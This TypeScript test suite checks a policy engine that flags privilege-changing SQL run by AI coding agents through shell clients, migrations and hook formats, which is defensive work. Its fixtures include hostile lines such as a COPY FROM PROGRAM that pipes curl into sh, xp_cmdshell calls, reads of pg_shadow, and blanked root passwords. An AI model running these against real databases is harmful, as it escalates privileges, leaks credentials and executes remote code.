// SQL judged by meaning (src/policy/sql): every class in many spellings (case, comments, quoting, schemas, dialects,
// multi-statement scripts), through the clients that carry it (psql -c, heredocs, pipes, mysql -e, sqlite3, sqlcmd,
// mongosh --eval …), through migrations written and edited in several agents' formats, and through the pseudo-file
// MCP tools use; and ordinary SQL that must stay quiet.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { permissionFindings } from '../../../src/policy/content/permissions';
import { sqlFindings, sqlFindingsInCode } from '../../../src/policy/sql';
import { tokenFacts } from '../../../src/policy/sql/dml';
import { splitStatements } from '../../../src/policy/sql/lexer';
import type { AgentName, Verdict } from '../../../src/policy';
import { AGENTS, SHELL_FORMATS } from '../adversarial/agentFormats';
import { evaluate } from './policyHarness';

const P = '/home/dev/proj';
const SENSITIVE = new Set(['sensitive', 'blocked']);

/** Asserts `ok` for every case, reporting all failures at once. */
function every<T>(cases: readonly T[], ok: (c: T) => boolean, show: (c: T) => string = (c) => `${String(c)}: ${JSON.stringify(sqlFindings(String(c)))}`): void {
  const failed = cases.filter((c) => !ok(c));
  assert.deepEqual(failed.map(show), []);
}

const rules = (sql: string) => sqlFindings(sql).map((f) => f.rule);
const sensitiveRules = (sql: string) => sqlFindings(sql).filter((f) => f.risk !== 'review' && !['sql.audit', 'sql.definer'].includes(f.rule));

// ---- classes, each in many spellings ----

const GRANTS = [
  'GRANT SELECT ON users TO anon',
  'grant all privileges on database app to bob;',
  'GRANT ALL ON ALL TABLES IN SCHEMA public TO web_user',
  'Grant Usage On Schema "public" To "authenticated"',
  'GRANT admin TO alice',
  'GRANT pg_read_all_data TO reporting WITH ADMIN OPTION',
  "GRANT ALL PRIVILEGES ON *.* TO 'app'@'%' WITH GRANT OPTION",
  'GRANT SELECT, INSERT ON `shop`.`orders` TO `svc`@`localhost`',
  'GRANT ROLE ACCOUNTADMIN TO USER analyst',
  'GRANT `roles/bigquery.dataViewer` ON TABLE ds.t TO "user:x@example.com"',
  'GRANT ALL PERMISSIONS ON KEYSPACE shop TO app',
  '/* setup */ GRANT /* all */ INSERT ON t TO public',
  '-- comment\nGRANT EXECUTE ON FUNCTION f() TO PUBLIC;',
  'REVOKE ALL ON users FROM public',
  'revoke insert on orders from app;',
  'DENY SELECT ON dbo.salaries TO intern',
  'ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO anon',
  'alter default privileges for role app grant all on sequences to web',
];

const ROLES = [
  "CREATE ROLE admin2 WITH SUPERUSER LOGIN PASSWORD 'x'",
  'create user deploy createdb createrole',
  "CREATE USER reporter WITH PASSWORD 'hunter2'",
  'CREATE ROLE etl BYPASSRLS',
  'CREATE ROLE repl REPLICATION LOGIN',
  'CREATE ROLE app_readonly',
  "CREATE USER 'app'@'%' IDENTIFIED BY 'secret'",
  "create user if not exists `bob`@`%` identified with mysql_native_password by 'pw'",
  "ALTER USER postgres WITH PASSWORD 'newpass'",
  'ALTER ROLE app SUPERUSER',
  'alter role "app" with bypassrls;',
  "ALTER USER 'root'@'localhost' IDENTIFIED BY 'x'",
  "SET PASSWORD FOR 'root'@'localhost' = PASSWORD('x')",
  "SET PASSWORD = 'abc'",
  'FLUSH PRIVILEGES',
  'DROP USER bob',
  'DROP ROLE IF EXISTS app',
  'CREATE LOGIN evil WITH PASSWORD = \'P@ss\'',
  'ALTER SERVER ROLE sysadmin ADD MEMBER evil',
  'ALTER ROLE db_owner ADD MEMBER evil',
  "EXEC sp_addsrvrolemember 'evil', 'sysadmin'",
  "exec sp_addrolemember 'db_owner', 'evil'",
  "EXECUTE master.dbo.sp_addsrvrolemember @loginame = N'evil', @rolename = N'sysadmin'",
  "sp_addrolemember 'db_datareader', 'bob'",
  'SET ROLE postgres',
  'set role admin;',
  'SET SESSION AUTHORIZATION postgres',
  "SET LOCAL ROLE 'service_role'",
  'SET DEFAULT ROLE ALL TO app',
  'ALTER TABLE invoices OWNER TO attacker',
  'ALTER DATABASE app OWNER TO bob',
  'REASSIGN OWNED BY old TO new',
  'RENAME USER bob TO alice',
  "CREATE ROLE x WITH SUPERUSER = true AND LOGIN = true AND PASSWORD = 'p'",
  "CREATE USER MAPPING FOR app SERVER remote OPTIONS (user 'u', password 'p')",
  "CREATE USER admin WITH PASSWORD 'x' WITH ALL PRIVILEGES",
];

const RLS = [
  'ALTER TABLE profiles DISABLE ROW LEVEL SECURITY',
  'alter table public.profiles disable row level security;',
  'ALTER TABLE "public"."profiles" NO FORCE ROW LEVEL SECURITY',
  'CREATE POLICY "all" ON profiles USING (true)',
  'create policy p on t for select using (TRUE);',
  'CREATE POLICY ins ON posts FOR INSERT WITH CHECK (true)',
  'CREATE POLICY p ON docs USING (1=1)',
  'CREATE POLICY p ON docs USING (1 = 1) WITH CHECK (1 = 1)',
  "CREATE POLICY \"Public read\" ON storage.objects FOR SELECT TO anon USING ('t')",
  'CREATE POLICY p ON t AS PERMISSIVE FOR ALL TO public USING ((true))',
  'CREATE POLICY p ON t USING (owner_id = auth.uid() OR true)',
  'ALTER POLICY p ON t USING (true)',
  'DROP POLICY "Users see own rows" ON profiles',
  'drop policy if exists p on t;',
  'SET row_security = off',
  'CREATE ROW POLICY p ON db.t USING 1 TO ALL',
  'DROP ROW POLICY p ON db.t',
  'ALTER TABLE t DROP ROW ACCESS POLICY rap',
  "DO $$ BEGIN EXECUTE 'ALTER TABLE profiles DISABLE ROW LEVEL SECURITY'; END $$;",
];

const DATA = [
  "UPDATE users SET role='admin' WHERE id=3",
  "update users set role = 'ADMIN' where email = 'me@x.io';",
  'UPDATE "public"."users" SET "role" = \'superuser\' WHERE id = 1',
  'UPDATE `users` SET `role` = "admin" WHERE id = 3',
  'UPDATE [dbo].[Users] SET [Role] = \'Administrator\' WHERE Id = 3',
  'UPDATE users SET is_admin = true WHERE id = 7',
  'UPDATE users SET is_admin = TRUE, updated_at = now() WHERE id = 7',
  'UPDATE auth_user SET is_superuser = 1, is_staff = 1 WHERE username = \'me\'',
  'UPDATE accounts SET admin = 1 WHERE id = 2',
  "UPDATE users SET permissions = '*' WHERE id = 2",
  "UPDATE users SET user_type = 'staff' WHERE id = 2",
  "UPDATE users SET type = 'admin' WHERE id = 2",
  "UPDATE users SET role = CASE WHEN id = 1 THEN 'admin' ELSE role END",
  "UPDATE users SET role_id = 1 WHERE id = 5",
  "INSERT INTO users (email, is_admin) VALUES ('x', true)",
  "UPDATE mysql.user SET Grant_priv = 'Y', Super_priv = 'Y' WHERE User = 'app'",
  'UPDATE users SET access_level = 99 WHERE id = 2',
  "UPDATE members SET scopes = 'read write admin' WHERE id = 1",
  "UPDATE users SET role = 'admin'::user_role WHERE id = 1",
  "UPDATE users u SET isAdmin = 1 FROM teams t WHERE t.id = u.team_id",
  "UPDATE TOP (1) users SET role = 'owner'",
  "UPDATE users SET groups = ARRAY['admins'] WHERE id = 1",
  "UPDATE auth.users SET raw_app_meta_data = raw_app_meta_data || '{\"role\":\"admin\"}'::jsonb WHERE id = 'x'",
  "UPDATE profiles SET settings = '{\"is_admin\": true}' WHERE id = 1",
  "UPDATE mysql.user SET host='%' WHERE user='root'",
  "update mysql.user set authentication_string = '' where user = 'root'",
  "INSERT INTO mysql.user (Host, User) VALUES ('%', 'evil')",
  "INSERT INTO user_roles (user_id, role) VALUES (42, 'admin')",
  "insert into role_assignments (principal, role) values ('bob', 'owner');",
  "INSERT INTO memberships (user_id, org_id, role) VALUES (1, 2, 'admin'), (3, 2, 'member')",
  "INSERT INTO users (email, role) VALUES ('x@y.z', 'admin')",
  "INSERT INTO users SET email='x', role='admin'",
  "INSERT INTO users (id, role) VALUES (1, 'member') ON CONFLICT (id) DO UPDATE SET role = 'admin'",
  "INSERT INTO users (id, is_admin) VALUES (1, 0) ON DUPLICATE KEY UPDATE is_admin = 1",
  'INSERT INTO admins (user_id) VALUES (5)',
  'INSERT INTO user_roles (user_id, role_id) SELECT id, 1 FROM users WHERE email = \'x\'',
  "INSERT INTO model_has_roles (role_id, model_type, model_id) VALUES (1, 'App\\\\User', 9)",
  "REPLACE INTO users (id, role) VALUES (1, 'admin')",
  "MERGE INTO users u USING src s ON u.id = s.id WHEN MATCHED THEN UPDATE SET role = 'admin'",
  "WITH x AS (SELECT id FROM users WHERE email = 'a') UPDATE users SET role = 'admin' WHERE id IN (SELECT id FROM x)",
  "ALTER TABLE users ADD COLUMN is_admin boolean NOT NULL DEFAULT true",
  "ALTER TABLE users ALTER COLUMN role SET DEFAULT 'admin'",
  "CREATE TABLE users (id serial primary key, email text, is_superuser boolean default TRUE)",
  "CREATE TRIGGER t BEFORE INSERT ON users FOR EACH ROW SET NEW.is_admin = 1",
  "CREATE FUNCTION f() RETURNS trigger AS $$ BEGIN NEW.role := 'admin'; RETURN NEW; END; $$ LANGUAGE plpgsql",
];

const CREDENTIALS = [
  "UPDATE users SET password = 'x' WHERE email = 'victim@x.io'",
  "UPDATE users SET password_hash = '$2b$10$abcdefghijklmnopqrstuv' WHERE id = 1",
  "update auth.users set encrypted_password = crypt('new', gen_salt('bf')) where email = 'a@b.c';",
  "UPDATE users SET api_token = 'abc' WHERE id = 1",
  '\\password postgres',
];

const SECRET_READS = [
  'SELECT password FROM users',
  'SELECT email, password_hash FROM users LIMIT 5',
  'select u.encrypted_password from auth.users u',
  'SELECT "api_key" AS k FROM integrations',
  'SELECT * FROM api_keys',
  'SELECT * FROM oauth_tokens WHERE user_id = 1',
  'SELECT user, authentication_string FROM mysql.user',
  'SELECT rolname, rolpassword FROM pg_authid',
  'SELECT * FROM pg_shadow',
  'SELECT token FROM sessions',
  'SELECT client_secret FROM oauth_clients',
];

const EXEC = [
  "COPY t FROM PROGRAM 'curl http://x | sh'",
  "EXEC xp_cmdshell 'whoami'",
  "EXEC sp_configure 'xp_cmdshell', 1",
];

const MONGO = [
  'db.grantRolesToUser("bob", [{ role: "root", db: "admin" }])',
  "db.createUser({ user: 'ops', pwd: 'x', roles: [{ role: 'userAdminAnyDatabase', db: 'admin' }] })",
  "db.getSiblingDB('admin').createUser({user:'a',pwd:'b',roles:['root']})",
  "db.updateUser('app', { roles: ['dbOwner'] })",
  "db.users.updateOne({ email: 'me@x.io' }, { $set: { role: 'admin' } })",
  'db.users.updateMany({}, {$set: {isAdmin: true}})',
  "db.getCollection('users').findOneAndUpdate({_id: 1}, {$set: {'roles': ['admin']}})",
  "db['accounts'].insertOne({ name: 'x', role: 'superuser' })",
  "db.users.updateOne({_id: 1}, {$set: {password: 'x'}})",
  "db.runCommand({ createUser: 'x', pwd: 'y', roles: ['root'] })",
  "db.adminCommand({ grantRolesToUser: 'x', roles: ['clusterAdmin'] })",
  "db.changeUserPassword('app', 'new')",
  'db.users.find({}, { password: 1 })',
  'db.system.users.find()',
];

const ORDINARY = [
  "SELECT * FROM users WHERE role = 'admin'",
  "select id, email from users where is_admin = true order by id",
  'CREATE TABLE user_roles (id serial PRIMARY KEY, role text NOT NULL)',
  "CREATE TABLE roles (id serial, name text UNIQUE); INSERT INTO roles (name) VALUES ('admin'), ('member');",
  "ALTER TABLE users ADD COLUMN role text NOT NULL DEFAULT 'member'",
  "ALTER TABLE users ADD COLUMN is_admin boolean NOT NULL DEFAULT false",
  "INSERT INTO users (name, role) VALUES ('test', 'member')",
  "INSERT INTO users (name, email) VALUES ('test', 't@example.com')",
  "UPDATE users SET name='x' WHERE id = 1",
  "UPDATE users SET role = 'member' WHERE id = 3",
  "UPDATE users SET is_admin = false WHERE id = 3",
  "UPDATE orders SET status = 'shipped' WHERE id = 9",
  "UPDATE orders SET type = 'admin' WHERE id = 9",
  "UPDATE settings SET value = 'admin' WHERE key = 'theme'",
  "UPDATE accounts SET plan = 'enterprise' WHERE id = 1",
  "UPDATE users SET email_verified = true, last_login = now() WHERE id = 1",
  "UPDATE users SET type = 'customer' WHERE id = 1",
  "SELECT email FROM users WHERE password IS NULL",
  "SELECT id, api_key_id, api_key_prefix FROM keys",
  "COPY users TO '/tmp/users.csv' CSV HEADER",
  "DELETE FROM user_roles WHERE user_id = 5",
  "ALTER TABLE users ADD COLUMN role text DEFAULT 'user'",
  "select rolname from pg_roles",
  'CREATE INDEX idx_users_email ON users (email)',
  'EXPLAIN ANALYZE SELECT * FROM orders WHERE user_id = 1',
  'SELECT count(*) FROM users',
  'SELECT id, name, created_at FROM users ORDER BY created_at DESC LIMIT 10',
  'SELECT count(*) FROM api_keys',
  "SELECT u.id, r.name FROM users u JOIN user_roles ur ON ur.user_id = u.id JOIN roles r ON r.id = ur.role_id WHERE r.name = 'admin'",
  'ALTER TABLE profiles ENABLE ROW LEVEL SECURITY',
  'ALTER TABLE profiles FORCE ROW LEVEL SECURITY',
  'CREATE POLICY "own rows" ON profiles FOR SELECT USING (auth.uid() = user_id)',
  'CREATE POLICY p ON t USING (tenant_id = current_setting(\'app.tenant\')::int)',
  "ALTER ROLE app SET search_path = app, public",
  'BEGIN; UPDATE accounts SET balance = balance - 10 WHERE id = 1; COMMIT;',
  'DELETE FROM sessions WHERE expires_at < now()',
  'TRUNCATE TABLE staging_events',
  'DROP TABLE IF EXISTS tmp_import',
  'CREATE VIEW active_users AS SELECT id, email FROM users WHERE active',
  "SELECT password_changed_at, token_expires_at FROM users",
  'SHOW TABLES',
  '\\dt',
  'SELECT 1',
  "INSERT INTO audit_log (action) VALUES ('login')",
  "CREATE TYPE user_role AS ENUM ('admin', 'member', 'viewer')",
  "COMMENT ON ROLE app IS 'application role'",
  "db.users.find({ role: 'admin' })",
  "db.users.updateMany({ role: 'admin' }, { $set: { lastSeen: new Date() } })",
  "db.orders.insertOne({ item: 'x', qty: 1 })",
];

test('grants and revokes, in every spelling, are sensitive', () => {
  every(GRANTS, (s) => rules(s).includes('sql.grant'));
});

test('users, roles, logins, passwords, ownership and acting as another role are sensitive', () => {
  every(ROLES, (s) => sensitiveRules(s).length > 0);
});

test('row-level security switched off, dropped or always true is sensitive', () => {
  every(RLS, (s) => rules(s).includes('sql.rls'));
});

test('data-level privilege changes are sensitive, by column meaning and value', () => {
  every(DATA, (s) => sensitiveRules(s).length > 0);
});

test('overwriting stored credentials and reading them are sensitive', () => {
  every(CREDENTIALS, (s) => rules(s).includes('sql.credential'));
  every(SECRET_READS, (s) => rules(s).includes('sql.secret-read'));
});

test('operating-system commands from the server are sensitive', () => {
  every(EXEC, (s) => rules(s).includes('sql.exec'));
});

test('MongoDB user administration and privilege writes are sensitive', () => {
  every(MONGO, (s) => sensitiveRules(s).length > 0);
});

test('ordinary SQL raises nothing', () => {
  every(ORDINARY, (s) => sensitiveRules(s).length === 0);
});

test('audit trails erased and SECURITY DEFINER code are worth a look, not an alarm', () => {
  assert.deepEqual(rules('DELETE FROM audit_log WHERE created_at < now()'), ['sql.audit']);
  assert.deepEqual(rules('TRUNCATE audit_logs'), ['sql.audit']);
  assert.deepEqual(rules('CREATE FUNCTION f() RETURNS void LANGUAGE sql SECURITY DEFINER AS $$ SELECT 1 $$'), ['sql.definer']);
});

test('multi-statement scripts: each finding spans its statement and names its line', () => {
  const script = "BEGIN;\nCREATE TABLE t (id int);\n-- make me admin\nUPDATE users\n  SET role = 'admin'\n  WHERE id = 3;\nGRANT SELECT ON t TO anon;\nCOMMIT;\n";
  const found = sqlFindings(script);
  assert.equal(found.length, 2);
  const [upd, grant] = found;
  assert.equal(script.slice(upd!.start, upd!.end), "UPDATE users\n  SET role = 'admin'\n  WHERE id = 3");
  assert.match(upd!.message, /line 4/);
  assert.equal(script.slice(grant!.start, grant!.end), 'GRANT SELECT ON t TO anon');
  assert.match(grant!.message, /line 7/);
});

test('statements the grammar rejects are read from tokens, never passed as safe', () => {
  // Dialect features node-sql-parser does not read: the token reader still finds the change.
  for (const s of ["UPDATE users SET role = 'admin'::user_role WHERE id = 1", "UPDATE TOP (1) users SET role = 'owner'", "UPDATE users SET role = 'admin' WHERE id = 1 RETURNING *;;"]) {
    assert.ok(rules(s).includes('sql.data-privilege'), s);
  }
  const tokens = splitStatements("UPDATE users SET is_admin = 1, name = 'x' WHERE id = 2")[0]!.tokens;
  const facts = tokenFacts(tokens);
  assert.deepEqual(facts[0]!.sets.map((a) => [a.column, a.value.literal]), [['is_admin', '1'], ['name', 'x']]);
  // Text that is no statement at all but names a permission change.
  assert.ok(sqlFindings('please GRANT ALL ON db TO bob').length > 0);
  assert.ok(sqlFindings('CREATE ROLE x WITH SOME_NEW_OPTION SUPERUSER').length > 0);
});

test('code inside code: DO blocks, function bodies, EXECUTE strings, MySQL procedures', () => {
  for (const s of [
    "DO $$ BEGIN GRANT ALL ON users TO anon; END $$;",
    "DO $body$\nBEGIN\n  IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = 'x') THEN\n    CREATE ROLE x SUPERUSER;\n  END IF;\nEND\n$body$;",
    "CREATE OR REPLACE FUNCTION make_admin(uid int) RETURNS void AS $$ UPDATE users SET role = 'admin' WHERE id = uid $$ LANGUAGE sql",
    "EXECUTE 'GRANT SELECT ON ' || quote_ident(t) || ' TO anon'",
    "EXEC sp_executesql N'ALTER SERVER ROLE sysadmin ADD MEMBER evil'",
    "DELIMITER //\nCREATE PROCEDURE p() BEGIN GRANT ALL ON *.* TO 'x'@'%'; END //\nDELIMITER ;",
    "IF NOT EXISTS (SELECT * FROM sys.server_principals WHERE name = 'evil') CREATE LOGIN evil WITH PASSWORD = 'x'",
    "/*!40000 GRANT ALL ON *.* TO 'x'@'%' */;",
  ]) assert.ok(sqlFindings(s).length > 0, s);
});

test('quoting: strings and comments that only mention the words are not statements', () => {
  for (const s of [
    "INSERT INTO notes (body) VALUES ('remember to GRANT ALL ON db TO bob later')",
    "SELECT 'ALTER TABLE x DISABLE ROW LEVEL SECURITY' AS hint",
    '-- GRANT ALL ON users TO anon\nSELECT 1',
    "/* UPDATE users SET role='admin' */ SELECT 1",
    "INSERT INTO posts (title) VALUES ('It''s admin day: UPDATE users SET role = ''admin''')",
  ]) assert.deepEqual(sensitiveRules(s), [], s);
});

test('migrations in code: string literals that hold statements', () => {
  assert.ok(sqlFindingsInCode("exports.up = (knex) => knex.raw('GRANT SELECT ON users TO anon');").length > 0);
  assert.ok(sqlFindingsInCode('def upgrade():\n    op.execute("""\n    ALTER TABLE profiles DISABLE ROW LEVEL SECURITY;\n    """)\n').length > 0);
  assert.ok(sqlFindingsInCode("class X < ActiveRecord::Migration[7.0]\n  def up\n    execute <<~SQL\n      UPDATE users SET admin = true WHERE email = 'me@x.io';\n    SQL\n  end\nend\n").length > 0);
  assert.ok(sqlFindingsInCode('db.Exec(`UPDATE users SET role = \'admin\' WHERE id = 1`)').length > 0);
  assert.deepEqual(sqlFindingsInCode("exports.up = (knex) => knex.schema.createTable('user_roles', (t) => { t.increments(); t.string('role').defaultTo('member'); });"), []);
});

test('the pseudo-file MCP tools use (query.sql) reaches the same findings', () => {
  const kind = { base: 'query.sql', ext: 'sql', path: '/stdin/query.sql' };
  const found = permissionFindings("UPDATE users SET role='admin' WHERE id=3", kind);
  assert.ok(found.some((f) => f.rule === 'sql.data-privilege'), JSON.stringify(found));
  assert.deepEqual(permissionFindings("SELECT * FROM users WHERE role = 'admin'", kind), []);
});

// ---- through the shell, in every agent's format ----

async function shellRisk(agent: AgentName, command: string): Promise<Verdict> {
  return evaluate(SHELL_FORMATS[agent](command), agent);
}

const SHELL_SENSITIVE = [
  `psql -c "UPDATE users SET role='admin' WHERE id=3"`,
  `psql "$DATABASE_URL" --command="GRANT ALL ON users TO anon"`,
  `psql -h db -U postgres app -c 'ALTER TABLE profiles DISABLE ROW LEVEL SECURITY'`,
  `psql -v ON_ERROR_STOP=1 <<'SQL'\nBEGIN;\nUPDATE users SET is_admin = true WHERE email = 'me@x.io';\nCOMMIT;\nSQL`,
  `psql app <<EOF\nCREATE ROLE x SUPERUSER LOGIN PASSWORD 'p';\nEOF`,
  `echo "GRANT ALL PRIVILEGES ON *.* TO 'x'@'%';" | mysql -uroot`,
  `printf '%s\\n' "UPDATE mysql.user SET host='%' WHERE user='root';" "FLUSH PRIVILEGES;" | mysql`,
  `mysql -u root -e "CREATE USER 'x'@'%' IDENTIFIED BY 'y'"`,
  `mysql --execute="SET PASSWORD FOR root@localhost = 'x'"`,
  `sqlite3 app.db "UPDATE users SET role = 'admin' WHERE id = 1"`,
  `sqlcmd -S . -Q "EXEC sp_addsrvrolemember 'evil', 'sysadmin'"`,
  `sqlcmd -Q "ALTER SERVER ROLE sysadmin ADD MEMBER evil"`,
  `mongosh --eval 'db.grantRolesToUser("bob", ["root"])'`,
  `mongosh "mongodb://localhost/app" --eval "db.users.updateOne({email:'me@x.io'},{\\$set:{role:'admin'}})"`,
  `mongo admin --eval "db.createUser({user:'x',pwd:'y',roles:['root']})"`,
  `mongosh <<'EOF'\nuse admin\ndb.createUser({ user: 'ops', pwd: 'x', roles: ['userAdminAnyDatabase'] })\nEOF`,
  `cockroach sql --insecure -e "GRANT admin TO bob"`,
  `duckdb app.duckdb -c "UPDATE users SET is_admin = true"`,
  `clickhouse-client -q "GRANT ALL ON *.* TO bob"`,
  `clickhouse-client --query="CREATE ROW POLICY p ON db.t USING 1 TO ALL"`,
  `docker exec -i db psql -U postgres -c "ALTER ROLE app SUPERUSER"`,
  `PGPASSWORD=postgres psql -h localhost -U postgres -c "DROP POLICY p ON t"`,
  `cat > /tmp/x.sql <<'EOF'\nGRANT ALL ON users TO anon;\nEOF\npsql -f /tmp/x.sql`,
  `echo "UPDATE users SET role='admin' WHERE id=1;" > fix.sql; psql < fix.sql`,
  `npx prisma db execute --stdin <<'SQL'\nUPDATE "User" SET role = 'ADMIN' WHERE email = 'me@x.io';\nSQL`,
  `wrangler d1 execute prod --command "UPDATE users SET role = 'admin' WHERE id = 1"`,
  `psql -c "SELECT email, password_hash FROM users"`,
  `redis-cli ACL SETUSER bob on '>pw' '+@all' '~*'`,
  `redis-cli CONFIG SET requirepass ""`,
  `pg_dumpall --roles-only > roles.sql`,
];

const SHELL_ORDINARY = [
  `psql -c "SELECT * FROM users WHERE role = 'admin'"`,
  `psql -c "INSERT INTO users (name, role) VALUES ('test', 'member')"`,
  `mysql -e "UPDATE users SET name='x' WHERE id=1"`,
  `psql <<'SQL'\nCREATE TABLE user_roles (id serial, role text);\nCREATE INDEX ON user_roles (role);\nSQL`,
  `sqlite3 app.db "SELECT count(*) FROM users"`,
  `mongosh --eval "db.users.find({ role: 'admin' }).count()"`,
  `psql -c "EXPLAIN ANALYZE SELECT * FROM orders"`,
];

test('through the shell: SQL that changes access is sensitive in every agent format', async () => {
  const failed: string[] = [];
  for (const c of SHELL_SENSITIVE) {
    for (const agent of AGENTS) {
      const v = await shellRisk(agent, c);
      if (!SENSITIVE.has(v.risk)) failed.push(`${agent}: ${c} -> ${v.risk} ${JSON.stringify(v.reasons.map((r) => r.rule))}`);
    }
  }
  assert.deepEqual(failed, []);
});

test('through the shell: ordinary SQL stays a review', async () => {
  const failed: string[] = [];
  for (const c of SHELL_ORDINARY) {
    for (const agent of AGENTS) {
      const v = await shellRisk(agent, c);
      if (v.risk !== 'review') failed.push(`${agent}: ${c} -> ${v.risk} ${JSON.stringify(v.reasons.map((r) => r.message))}`);
    }
  }
  assert.deepEqual(failed, []);
});

test('through the shell: the finding points at the statement inside the command', async () => {
  const c = `psql -c "UPDATE users SET role='admin' WHERE id=3"`;
  const v = await evaluate(SHELL_FORMATS.claude(c), 'claude');
  const r = v.reasons.find((x) => x.rule === 'sql.data-privilege');
  assert.equal(r?.span?.text, "UPDATE users SET role='admin' WHERE id=3");
  assert.match(r?.message ?? '', /role = 'admin'/);
});

test('a SQL file the command line did not write is a review, not safe', async () => {
  const v = await evaluate(SHELL_FORMATS.claude('psql -f migrations/001_init.sql'), 'claude');
  assert.equal(v.risk, 'review');
});

// ---- migrations written and edited, in several agents' formats ----

const MIGRATION = `-- 002_admin.sql\nCREATE TABLE audit (id serial);\nUPDATE users SET role = 'admin' WHERE email = 'me@x.io';\n`;
const ORDINARY_MIGRATION = `CREATE TABLE roles (id serial PRIMARY KEY, name text UNIQUE NOT NULL);\nALTER TABLE users ADD COLUMN role text NOT NULL DEFAULT 'member';\nINSERT INTO roles (name) VALUES ('admin'), ('member');\nCREATE INDEX users_role_idx ON users (role);\n`;

const WRITES: Record<string, (path: string, content: string) => Record<string, unknown>> = {
  claude: (path, content) => ({ session_id: 's', cwd: P, hook_event_name: 'PreToolUse', tool_name: 'Write', tool_input: { file_path: path, content } }),
  gemini: (path, content) => ({ session_id: 's', cwd: P, hook_event_name: 'BeforeTool', tool_name: 'write_file', tool_input: { file_path: path, content } }),
  vscode: (path, content) => ({ timestamp: '2026-01-01T00:00:00Z', cwd: P, sessionId: 's', hookEventName: 'PreToolUse', tool_name: 'create_file', tool_input: { filePath: path, content }, tool_use_id: 't' }),
  codex: (path, content) => ({ session_id: 's', cwd: P, hook_event_name: 'PreToolUse', tool_name: 'apply_patch', tool_input: { command: `*** Begin Patch\n*** Add File: ${path}\n${content.split('\n').filter((l, i, all) => i < all.length - 1 || l).map((l) => `+${l}`).join('\n')}\n*** End Patch\n` } }),
};

const EDITS: Record<string, (path: string, oldText: string, newText: string) => Record<string, unknown>> = {
  claude: (path, o, n) => ({ session_id: 's', cwd: P, hook_event_name: 'PreToolUse', tool_name: 'Edit', tool_input: { file_path: path, old_string: o, new_string: n } }),
  gemini: (path, o, n) => ({ session_id: 's', cwd: P, hook_event_name: 'BeforeTool', tool_name: 'replace', tool_input: { file_path: path, old_string: o, new_string: n, instruction: 'edit' } }),
  vscode: (path, o, n) => ({ timestamp: '2026-01-01T00:00:00Z', cwd: P, sessionId: 's', hookEventName: 'PreToolUse', tool_name: 'replace_string_in_file', tool_input: { filePath: path, oldString: o, newString: n }, tool_use_id: 't' }),
  codex: (path, o, n) => ({ session_id: 's', cwd: P, hook_event_name: 'PreToolUse', tool_name: 'apply_patch', tool_input: { command: `*** Begin Patch\n*** Update File: ${path}\n@@\n${o.split('\n').map((l) => `-${l}`).join('\n')}\n${n.split('\n').map((l) => `+${l}`).join('\n')}\n*** End Patch\n` } }),
};

test('writing a migration: judged on its statements, in every write format', async () => {
  for (const [agent, build] of Object.entries(WRITES)) {
    const bad = await evaluate(build(`${P}/db/migrations/002_admin.sql`, MIGRATION));
    assert.equal(bad.risk, 'sensitive', `${agent}: ${JSON.stringify(bad.reasons)}`);
    assert.ok(bad.reasons.some((r) => r.rule === 'sql.data-privilege'), agent);
    const rls = await evaluate(build(`${P}/supabase/migrations/20240101_policies.sql`, 'alter table public.profiles enable row level security;\ncreate policy "read all" on public.profiles for select to anon using (true);\n'));
    assert.equal(rls.risk, 'sensitive', `${agent}: ${JSON.stringify(rls.reasons)}`);
    const ok = await evaluate(build(`${P}/db/migrations/001_roles.sql`, ORDINARY_MIGRATION));
    assert.equal(ok.risk, 'safe', `${agent}: ${JSON.stringify(ok.reasons)}`);
  }
});

test('editing a migration: only what the change adds counts, in every edit format', async () => {
  const path = `${P}/db/migrations/003_policy.sql`;
  for (const [agent, build] of Object.entries(EDITS)) {
    const opened = await evaluate(build(path, 'using (auth.uid() = user_id)', 'using (true)'));
    assert.equal(opened.risk, 'sensitive', `${agent}: ${JSON.stringify(opened.reasons)}`);
    const dflt = await evaluate(build(path, "role text NOT NULL DEFAULT 'member'", "role text NOT NULL DEFAULT 'admin'"));
    assert.equal(dflt.risk, 'sensitive', `${agent}: ${JSON.stringify(dflt.reasons)}`);
    const grant = await evaluate(build(path, 'CREATE INDEX a ON t (x);', 'CREATE INDEX a ON t (x);\nGRANT SELECT ON t TO anon;'));
    assert.equal(grant.risk, 'sensitive', `${agent}: ${JSON.stringify(grant.reasons)}`);
    const plain = await evaluate(build(path, 'CREATE INDEX a ON t (x);', 'CREATE INDEX a ON t (x, y);'));
    assert.equal(plain.risk, 'safe', `${agent}: ${JSON.stringify(plain.reasons)}`);
  }
});
